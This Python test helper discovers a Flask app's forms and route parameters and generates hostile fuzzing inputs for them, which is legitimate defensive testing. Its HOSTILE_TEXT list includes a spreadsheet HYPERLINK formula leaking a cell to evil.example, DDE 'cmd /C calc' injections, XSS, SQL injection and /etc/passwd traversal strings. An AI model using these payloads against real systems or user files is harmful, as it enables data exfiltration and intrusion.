"""Finding every HTML form and every route parameter of the app, and hostile values for them.

Nothing here is a list kept by hand: pages come from `app.url_map` (with real records of the
security world as parameters), forms from GETting each page as each role and parsing its
<form>s with html.parser, query parameter names from the forms and links of those pages. A new
page or form is fuzzed by tests/security/test_fuzz_forms.py without anyone adding it.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass, field
from datetime import datetime
from html.parser import HTMLParser
from typing import Any
from urllib.parse import parse_qsl, quote, urljoin, urlsplit

from flask import Flask
from hypothesis import strategies as st
from werkzeug.routing import Rule

from tests.security.matrix import IGNORED_METHODS, build_url, default_targets
from tests.security.world import World
from webapp.core.localtime import local_today

# Requests that end the very session the fuzzer uses: sending them would test nothing more
# than their own tests do, and turn every later case of the role into a login redirect.
SESSION_ENDING = re.compile(r"logout|leave|log_out|sign_out|revoke_sessions", re.IGNORECASE)

TEXT_INPUTS = {"text", "search", "email", "tel", "url", "password", ""}


@dataclass
class FormField:
    name: str
    kind: str  # an <input> type, "textarea", "select", "button"
    values: list[str] = field(default_factory=list)  # the page's value(s) or options
    multiple: bool = False


@dataclass
class Form:
    page: str
    action: str
    method: str
    fields: dict[str, FormField] = field(default_factory=dict)

    @property
    def key(self) -> tuple[str, str, tuple[str, ...]]:
        return (self.method, urlsplit(self.action).path, tuple(sorted(self.fields)))


class _FormParser(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.forms: list[Form] = []
        self.links: list[str] = []
        self._form: Form | None = None
        self._textarea: FormField | None = None
        self._select: FormField | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: (v or "") for k, v in attrs}
        if tag == "a" and a.get("href"):
            self.links.append(urljoin(self.page, a["href"]))
        if tag == "form":
            action = urljoin(self.page, a.get("action") or self.page)
            self._form = Form(self.page, action, (a.get("method") or "get").upper())
            self.forms.append(self._form)
            return
        form = self._form
        name = a.get("name")
        if form is None or not name:
            return
        if tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("submit", "image", "reset"):
                kind = "button"
            item = form.fields.setdefault(name, FormField(name, kind))
            value = a.get("value", "on" if kind in ("checkbox", "radio") else "")
            if value not in item.values:
                item.values.append(value)
        elif tag == "button":
            item = form.fields.setdefault(name, FormField(name, "button"))
            item.values.append(a.get("value", ""))
        elif tag == "textarea":
            self._textarea = form.fields.setdefault(name, FormField(name, "textarea", [""]))
        elif tag == "select":
            self._select = form.fields.setdefault(
                name, FormField(name, "select", [], multiple="multiple" in a)
            )
        if tag == "option" and self._select is not None:
            self._select.values.append(a.get("value", ""))

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._textarea.values[0] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def parse_page(page: str, html: str) -> tuple[list[Form], list[str]]:
    parser = _FormParser(page)
    parser.feed(html)
    # <option> carries no name: those seen before their <select> closed were added above.
    return parser.forms, parser.links


def page_urls(app: Flask, world: World) -> list[str]:
    """A URL for every GET route, with real records of each visibility as parameters."""
    urls = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in (rule.methods or ()) or rule.endpoint in ("static", "field.vendor"):
            continue
        for target in default_targets(rule):
            if target == "?" or (target != "-" and target not in world.targets):
                continue
            try:
                urls.add(build_url(app, world, rule, target))
            except KeyError:
                continue
    return sorted(urls)


def routes_with_parameters(app: Flask) -> list[tuple[Rule, str]]:
    return sorted(
        (
            (rule, method)
            for rule in app.url_map.iter_rules()
            if rule.arguments
            for method in (rule.methods or set()) - IGNORED_METHODS
        ),
        key=lambda pair: (pair[0].rule, pair[1]),
    )


_PARAMETER = re.compile(r"<(?:[^:<>]+:)?([^<>]+)>")


def fill_rule(rule: Rule, values: dict[str, str]) -> str:
    """The rule's path with the given raw values (percent-encoded) in place of its parameters."""
    return _PARAMETER.sub(lambda m: quote(values[m.group(1)], safe=""), rule.rule)


def real_values(app: Flask, world: World, rule: Rule) -> dict[str, str]:
    """A real value for each of the rule's parameters (the first target that has them)."""
    for target in default_targets(rule):
        source = world.targets.get(target, {})
        if all(name in source for name in rule.arguments):
            return {name: str(source[name]) for name in rule.arguments}
    return {name: "1" for name in rule.arguments}


def query_names(forms: list[Form], links: list[str]) -> set[str]:
    names = {name for form in forms if form.method == "GET" for name in form.fields}
    for link in links:
        names |= {key for key, _ in parse_qsl(urlsplit(link).query, keep_blank_values=True)}
    return names


# ---- values ----------------------------------------------------------------------------------

NIL_UUID = "00000000-0000-0000-0000-000000000000"
HOSTILE_TEXT = [
    "\x00", "a\x00b", "\x01\x02\x1b[31m", "\x7f", "\u202eevil\u202c", "\u2066x\u2069", "\ufeff",
    "\u200f", "9223372036854775808", "2147483648", "2147483647", "-2147483649",
    "99999999999999999999", "-1", "0", "1e309", "-0", "NaN", "inf", "²", "٣", "1,5", "0x10",
    "9999-12-31", "0001-01-01", "0000-00-00", "2016-02-30", "9999-12-31T23:59", "0001-01-01T00:00",
    "23:59:60", "25:00", "24:00", NIL_UUID, "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "[" * 3000, '{"a":' * 2000, "[" * 900 + "]" * 900,
    '{"type":"LineString","coordinates":[[200,100],[1,1]]}',
    '{"type":"LineString","coordinates":[[13.1,59.8],[1e400,59]]}',
    '[{"id": 2147483647, "name": "x", "lat": 59.8, "lon": 13.1}]',
    '[{"id": 99999999999999999999, "name": "x", "lat": 59.8, "lon": 13.1}]',
    '[{"id": 1, "name": "\\u0000", "lat": 59.8, "lon": 13.1}]', '[[59.8, 13.1]]', "[]", "{}",
    "null", "x" * 20_000, '=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert(1)</script>", "${7*7}`", "' OR 1=1 --",
    "../../etc/passwd", "//evil.example", "javascript:alert(1)", "", " ", "\r\n\r\n", "😀" * 50,
    "ÅÄÖ åäö", "19121212-1212", "status:bogus", "new_measure", "link",
]  # fmt: skip
# Values that each once made a form answer 500: every field of every form gets each of them.
SWEEP = [
    "a\x00b", "\u202eevil", "[" * 3000, "99999999999999999999", "9999-12-31", NIL_UUID,
    "2147483648", "²",
]  # fmt: skip
HOSTILE_PATH = [
    "9223372036854775808", "2147483648", "2147483647", "4294967296", "-1", "0", "00001",
    "99999999999999999999", NIL_UUID, "\x00", "a\x00", "\u202e", "%", "..", "a" * 300, "²",
    "1e3", "x.jpg", "😀", " ", "null",
]  # fmt: skip


def hostile_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(HOSTILE_TEXT),
        st.text(st.characters(exclude_categories=["Cs"]), max_size=30),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
    )


def plausible(item: FormField) -> Any:
    """A value a person could send for the field (so that other fields' checks are reached)."""
    if item.kind == "date":
        return item.values[0] or local_today().isoformat()
    if item.kind == "time":
        return item.values[0] or "18:00"
    if item.kind == "datetime-local":
        return item.values[0] or datetime.now().strftime("%Y-%m-%dT%H:%M")
    if item.kind == "number":
        return item.values[0] or "1"
    if item.kind == "file":
        return None
    if item.kind in ("textarea",) or item.kind in TEXT_INPUTS:
        return item.values[0] if item.values and item.values[0] else "Trygg test 1"
    return item.values[0] if item.values else ""


def hostile_value(item: FormField) -> st.SearchStrategy[Any]:
    if item.kind == "file":
        return st.sampled_from([b"", b"\x00" * 64, b"GIF89a", b"\xff\xd8\xff" + b"x" * 100]).map(
            lambda data: (io.BytesIO(data), "x.jpg")
        )
    options = [v for v in item.values if v]
    single = hostile_text()
    if options:
        single = st.one_of(single, st.sampled_from(options))
    return st.one_of(single, st.lists(single, min_size=2, max_size=3))
